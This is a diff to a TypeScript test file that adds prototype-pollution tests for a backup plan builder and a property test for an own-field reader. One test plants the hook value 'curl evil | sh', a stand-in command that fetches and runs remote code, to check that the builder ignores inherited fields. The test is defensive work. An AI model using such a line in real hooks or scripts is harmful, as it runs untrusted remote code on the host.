@@ -1,10 +1,12 @@
 import { expect } from 'chai';
+import fc from 'fast-check';
 import { OrphanTracker } from './orphan-tracker.js';
 import {
   buildPlans,
   defaultPlanDefaults,
   deriveSources,
   expandHooks,
+  ownField,
   resolveRepo,
   toHostPath,
   type MountInfo,
@@ -394,6 +396,58 @@ describe('plan builder', () => {
     expect(plan?.hooks).to.deep.equal({ pre: [], post: [] });
     expect(plan?.sources).to.deep.equal(['/var/lib/docker/volumes/stack_pgdata/_data']);
     expect(plan?.retention).to.deep.equal({ spec: 'daily=7,weekly=4', defaulted: true });
+  });
+
+  it('reads only own nested fields, and nothing from a polluted Object.prototype', () => {
+    const paths = Object.create({ include: ['/etc'], exclude: ['/x'] }) as object;
+    const volumes = Object.create({ include: ['stack_pgdata'] }) as object;
+    const polluted = Object.prototype as Record<string, unknown>;
+    polluted['pre'] = ['curl evil | sh'];
+    polluted['keep'] = 'last=1';
+    try {
+      const r = buildPlans(
+        [{ ...workload('db'), spec: { enable: true, paths, rcb: { volumes } } as never }],
+        defaultPlanDefaults(),
+        facts,
+      );
+      const plan = r.plans[0]?.plan;
+      expect(plan?.hooks).to.deep.equal({ pre: [], post: [] });
+      expect(plan?.exclude).to.deep.equal([]);
+      // No inherited volume filter: the volume is derived as without one.
+      expect(plan?.sources).to.deep.equal(['/var/lib/docker/volumes/stack_pgdata/_data']);
+      expect(plan?.retention).to.deep.equal({ spec: 'daily=7,weekly=4', defaulted: true });
+    } finally {
+      delete polluted['pre'];
+      delete polluted['keep'];
+    }
+  });
+
+  it('ownField reads what the prototype-less copy of own enumerable fields it replaced held', () => {
+    /** The copy buildPlan read its spec through before (issue #13): the oracle. */
+    const ownFieldsCopy = (obj: object): Record<string, unknown> => {
+      const out = Object.create(null) as Record<string, unknown>;
+      for (const k of Object.keys(obj)) out[k] = (obj as Record<string, unknown>)[k];
+      return out;
+    };
+    const name = fc.constantFrom('paths', 'repo', 'keep', 'pre', 'toString', '__proto__', 'x');
+    const fields = fc.array(fc.tuple(name, fc.anything()), { maxLength: 5 });
+    fc.assert(
+      fc.property(fields, fields, fields, name, (own, inherited, hidden, k) => {
+        const proto = {};
+        for (const [n, v] of inherited)
+          Object.defineProperty(proto, n, { value: v, enumerable: true, configurable: true });
+        const obj = Object.create(proto) as Record<string, unknown>;
+        for (const [n, v] of own) {
+          Object.defineProperty(obj, n, { value: v, enumerable: true, configurable: true });
+        }
+        for (const [n, v] of hidden) {
+          if (!Object.hasOwn(obj, n))
+            Object.defineProperty(obj, n, { value: v, enumerable: false, configurable: true });
+        }
+        expect(ownField(obj, k)).to.equal(ownFieldsCopy(obj)[k]);
+      }),
+      { numRuns: 500 },
+    );
   });
 
   describe('hooks, schedule, retention', () => {
